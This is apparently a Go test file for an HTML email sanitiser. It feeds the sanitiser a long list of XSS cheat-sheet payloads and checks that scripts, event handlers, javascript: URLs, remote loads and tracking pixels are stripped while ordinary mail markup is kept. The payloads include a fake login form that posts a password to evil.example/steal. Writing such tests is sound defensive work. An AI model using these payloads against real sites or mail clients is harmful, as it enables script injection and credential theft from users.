package mail

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// Payloads from the usual XSS cheat sheets, as they arrive in HTML mail.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="  JAVASCRIPT:alert(1)">click</a>`,
	`<a href="jav&#x09;ascript:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">click</a>`,
	`<body onload=alert(1)>`,
	`<div onclick="alert(1)" onmouseover="alert(2)">x</div>`,
	`<svg onload=alert(1)><script>alert(2)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><script>alert(1)</script></mtext></math>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="https://evil.example/steal"><input name=password type=password><button>Log in</button></form>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="Set-Cookie" content="a=b">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<div style="background-image:url(javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<p style="color: red; position: fixed; top: 0">overlay</p>`,
	`<base href="https://evil.example/">`,
	`<img src="https://tracker.example/pixel.gif?u=anna" width=1 height=1>`,
	`<img src="http://tracker.example/open.png">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img srcset="https://tracker.example/a.png 1x">`,
	`<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
	`<details open ontoggle=alert(1)>`,
	`<a href="https://example.com" target="_self" rel="opener">ok</a>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<x onclick=alert(1)>custom</x>`,
	`"><script>alert(document.cookie)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
}

var (
	forbiddenTags = map[string]bool{"script": true, "style": true, "iframe": true, "frame": true, "frameset": true,
		"object": true, "embed": true, "form": true, "input": true, "button": true, "meta": true, "link": true,
		"base": true, "svg": true, "math": true, "video": true, "audio": true, "noscript": true, "textarea": true}
	badURL = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data:text|data:image/svg)`)
)

// checkSafe parses sanitised output the way a browser would and fails on
// anything that could run, load from elsewhere, or submit.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if forbiddenTags[tok.Data] {
			t.Errorf("input %q: output keeps <%s>: %q", in, tok.Data, out)
		}
		for _, a := range tok.Attr {
			k := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(k, "on"):
				t.Errorf("input %q: output keeps handler %s: %q", in, k, out)
			case k == "style" && regexp.MustCompile(`(?i)url|expression|position`).MatchString(a.Val):
				t.Errorf("input %q: output keeps style %q", in, a.Val)
			case (k == "href" || k == "src" || k == "action" || k == "background" || k == "srcset") && badURL.MatchString(a.Val):
				t.Errorf("input %q: output keeps %s=%q", in, k, a.Val)
			case k == "src" && tok.Data == "img" && !strings.HasPrefix(a.Val, "cid:") && !strings.HasPrefix(a.Val, "data:image/"):
				t.Errorf("input %q: remote image kept: %q", in, a.Val)
			case k == "srcset":
				t.Errorf("input %q: srcset kept: %q", in, a.Val)
			}
		}
	}
}

func TestSanitizeHTMLRemovesHostileContent(t *testing.T) {
	for _, in := range xssPayloads {
		out := SanitizeHTML(in)
		checkSafe(t, in, out)
		if strings.Contains(strings.ToLower(out), "alert(") && strings.Contains(strings.ToLower(out), "<") && !strings.Contains(out, "&lt;") {
			// Text that merely reads "alert(1)" is harmless; markup is not.
			checkSafe(t, in, out)
		}
	}
	// Everything at once, as one hostile message.
	all := strings.Join(xssPayloads, "\n")
	checkSafe(t, "all payloads", SanitizeHTML(all))
}

func TestSanitizeHTMLKeepsMail(t *testing.T) {
	in := `<div style="color: #1F497D; text-align: center">Hello <b>Anna</b>,<br>` +
		`<a href="https://shop.example.com/orders/1043">your order</a> and <a href="mailto:help@example.com">help</a>.` +
		`<img src="cid:image001.png@01D3BA12" alt="logo">` +
		`<img src="data:image/png;base64,iVBORw0KGgo=">` +
		`<table><tr><td>Shoes</td><td>2</td></tr></table><blockquote>earlier</blockquote></div>`
	out := SanitizeHTML(in)
	for _, want := range []string{
		`<b>Anna</b>`,
		`href="https://shop.example.com/orders/1043"`,
		`href="mailto:help@example.com"`,
		`src="cid:image001.png@01D3BA12"`,
		`src="data:image/png;base64,iVBORw0KGgo="`,
		`<td>Shoes</td>`,
		`<blockquote>earlier</blockquote>`,
		`color: #1F497D`,
		`target="_blank"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lost %s:\n%s", want, out)
		}
	}
	if !regexp.MustCompile(`rel="[^"]*nofollow[^"]*noopener|rel="[^"]*noopener[^"]*nofollow`).MatchString(out) &&
		!(strings.Contains(out, "nofollow") && strings.Contains(out, "noopener")) {
		t.Errorf("links lack rel=nofollow noopener:\n%s", out)
	}
	checkSafe(t, in, out)
}
